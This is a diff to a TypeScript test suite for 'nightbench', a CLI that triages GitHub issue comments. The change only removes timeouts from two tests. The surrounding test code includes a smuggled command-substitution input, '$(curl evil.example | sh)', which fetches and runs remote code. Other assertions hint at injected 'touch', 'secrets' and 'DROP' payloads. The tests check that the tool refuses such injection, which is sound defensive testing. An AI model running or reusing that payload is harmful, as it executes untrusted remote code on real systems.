@@ -307,7 +307,7 @@ describe('nightbench triage (the CLI, as the workflow runs it)', () => {
     // The reply names nothing of the comment's text.
     expect(issue().comments.at(-1)!.body).not.toMatch(/touch|secrets|DROP/);
     expect(issue().state).toBe('closed');
-  }, 60_000);
+  });
 
   it('by hand: reads a comment by id from GitHub; a bad event file is one clear line and exit 2', async () => {
     fake.setRole(repository, 'wes', 'write');
@@ -326,7 +326,7 @@ describe('nightbench triage (the CLI, as the workflow runs it)', () => {
     expect(bad.code).toBe(2);
     expect(bad.stderr).toBe(`nightbench: issue_comment event ${event}: comment.user: Invalid input: expected object, received undefined (and 2 more)\n`);
     expect(states()).toEqual(['open', 'open']);
-  }, 60_000);
+  });
 
   it('refuses a fixed-by whose commit is a command substitution, saying what a commit looks like', async () => {
     const outcome = await comment('mia', '/nightbench fixed-by $(curl evil.example | sh)', 'maintain');
